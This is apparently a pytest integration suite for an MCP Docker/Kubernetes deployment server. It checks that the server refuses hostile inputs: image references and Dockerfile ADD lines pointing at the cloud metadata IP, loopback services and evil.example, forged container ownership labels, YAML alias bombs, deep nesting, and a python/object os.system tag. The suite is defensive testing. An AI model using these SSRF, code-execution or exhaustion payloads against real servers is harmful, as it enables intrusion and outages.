"""Outbound fetches a caller steers, containers it does not own, and manifests built to exhaust the
server — through real MCP sessions on the real dockerd and control plane."""

from __future__ import annotations

import json
import secrets
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from mcp import Client

from tests.hostile.conftest import Attempt
from tests.integration.deployment.docker_engine import DockerEngine
from tests.integration.deployment.k8s_cluster import KubeCluster
from tests.integration.deployment.sessions import deployment_session, error_text

pytestmark = [pytest.mark.anyio, pytest.mark.integration]

REGISTRIES = [
    "169.254.169.254/latest/meta-data:latest",
    "169.254.169.254:80/x:1",
    "127.0.0.1:6379/cache:1",
    "localhost:5000/app:1",
    "[::1]:5000/app:1",
    "10.0.0.1:5000/internal:1",
    "registry.evil.example/app:1",
    "docker.io/library/alpine:3.20",
    "alpine:3.20",
    "ghcr.io/evil/app:1",
]


@pytest.fixture(scope="module")
async def operator(
    engine: DockerEngine, cluster: KubeCluster, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[tuple[Client, Path]]:
    tmp = tmp_path_factory.mktemp("outbound")
    (tmp / "builds").mkdir()
    config: dict[str, Any] = {
        "role": "operator",
        "audit": {"path": str(tmp / "audit.jsonl")},
        "limits": {"identity": {"rate": 1000, "burst": 1000}},
        "policy": {
            "tiers": {"deployment": "write", "monitoring": "read"},
            "k8s_namespaces": ["*"],
            "scan_roots": [str(tmp / "builds")],
            "url_allowlist": ["https://downloads.example.com/"],
        },
        "deployment": {"docker_host": engine.host, "kubeconfig": str(cluster.kubeconfig)},
    }
    async with deployment_session(config) as client:
        yield client, tmp


@pytest.mark.parametrize("image", REGISTRIES)
async def test_images_from_registries_the_policy_does_not_allow_are_never_pulled(
    operator: tuple[Client, Path], attempt: Attempt, image: str
) -> None:
    client, _ = operator
    for tool, args in (("docker_run", {"image": image}), ("docker_pull", {"image": image})):
        with attempt("outbound fetches", f"{tool} {image}"):
            result = await client.call_tool(tool, args)
            assert result.is_error and "registry" in error_text(result), error_text(result)


DOCKERFILES = {
    "FROM a metadata-service registry": "FROM 169.254.169.254/x:1\n",
    "FROM redis on loopback as a registry": "FROM 127.0.0.1:6379/x:1\n",
    "FROM through an ARG default": "ARG BASE=127.0.0.1:6379/x:1\nFROM ${BASE}\n",
    "FROM through an ARG with no default": "ARG BASE\nFROM ${BASE}\n",
    "COPY --from an image": "FROM busybox:local\nCOPY --from=169.254.169.254/x:1 /etc/passwd /x\n",
    "ADD from the metadata service": "FROM busybox:local\nADD http://169.254.169.254/latest/meta-data/ /m\n",
    "ADD from loopback redis": "FROM busybox:local\nADD http://127.0.0.1:6379/ /m\n",
    "ADD from a host off the allowlist": "FROM busybox:local\nADD https://evil.example/payload /p\n",
    "ADD a git repository": "FROM busybox:local\nADD git@github.com:evil/repo.git /r\n",
    "a second stage from an evil registry": "FROM busybox:local AS a\nFROM registry.evil.example/x:1\n",
}


@pytest.mark.parametrize("what", list(DOCKERFILES))
async def test_a_build_cannot_fetch_what_the_policy_does_not_allow(
    operator: tuple[Client, Path], attempt: Attempt, what: str
) -> None:
    client, tmp = operator
    context = tmp / "builds" / secrets.token_hex(4)
    context.mkdir()
    (context / "Dockerfile").write_text(DOCKERFILES[what])
    with attempt("outbound fetches", f"docker_build: {what}"):
        result = await client.call_tool("docker_build", {"context": str(context), "tag": "hostile:1"})
        assert result.is_error, result.structured_content


async def test_a_forged_managed_label_does_not_make_a_container_ours(
    operator: tuple[Client, Path], engine: DockerEngine, attempt: Attempt
) -> None:
    import docker

    client, _ = operator
    raw = docker.DockerClient(base_url=engine.host)
    try:
        forged = raw.containers.run(
            engine.image, ["sleep", "60"], detach=True, network_mode="none",
            labels={"code.managed": "true", "code.owner": "operator"},
        )  # fmt: skip
        for tool, args in (
            ("docker_stop", {"container": forged.id, "timeout_s": 0}),
            ("docker_remove", {"container": forged.id, "force": True}),
            ("docker_restart", {"container": forged.id}),
        ):
            with attempt("ownership", f"{tool} on a container carrying code.managed=true"):
                result = await client.call_tool(tool, args)
                assert result.is_error and "labels prove nothing" in error_text(result)
        forged.reload()
        assert forged.status == "running"
    finally:
        raw.containers.prune()
        for container in raw.containers.list(all=True):
            container.remove(force=True)
        raw.close()


def bomb(levels: int) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [{','.join(['*a' + str(i - 1)] * 9)}]" for i in range(1, levels)]
    return "\n".join(lines) + "\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: boom}\n"


MANIFESTS = {
    "a 9-level alias bomb": bomb(9),
    "a 12-level alias bomb": bomb(12),
    "an alias bomb in a key": "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
    "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
    "d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n? [*d, *d, *d, *d, *d, *d, *d, *d]\n: boom\n",
    "merge keys doubling": "k0: &k0 {a: 1, b: 2}\n"
    + "".join(f"k{i}: &k{i} {{<<: [*k{i - 1}], x{i}: [*k{i - 1}, *k{i - 1}]}}\n" for i in range(1, 40))
    + "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: merged}\n",
    "5,000-deep flow nesting": "a: " + "[" * 5000 + "]" * 5000,
    "100,000-deep flow nesting": "a: " + "[" * 100_000 + "]" * 100_000,
    "300-deep block nesting": "a:\n" + "".join("  " * i + "- \n" for i in range(300)),
    "a python object tag": "!!python/object/apply:os.system ['id']\n",
    "a recursive alias": "a: &a [*a]\n",
    "ten thousand documents": "\n---\n".join("{}" for _ in range(10_000)),
    "a SecretList wrapping a List": json.dumps(
        {
            "apiVersion": "v1",
            "kind": "SecretList",
            "items": [{"apiVersion": "v1", "kind": "List", "items": []}],
        }
    ),
    "a RoleBindingList with a non-list": json.dumps(
        {"apiVersion": "v1", "kind": "RoleBindingList", "items": 7}
    ),
    "two megabytes of one string": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: big}\ndata: {a: "
    + "x" * 2_000_000
    + "}\n",
}


@pytest.mark.parametrize("what", list(MANIFESTS))
async def test_manifests_built_to_exhaust_the_server_are_refused_with_a_clear_error(
    operator: tuple[Client, Path], attempt: Attempt, what: str
) -> None:
    client, _ = operator
    with attempt("manifest exhaustion", what):
        result = await client.call_tool("k8s_plan", {"manifests": MANIFESTS[what], "namespace": "default"})
        assert result.is_error, result.structured_content
        refusal = (result.structured_content or {}).get("error")
        assert refusal in ("invalid_argument", "permission_denied"), result.structured_content
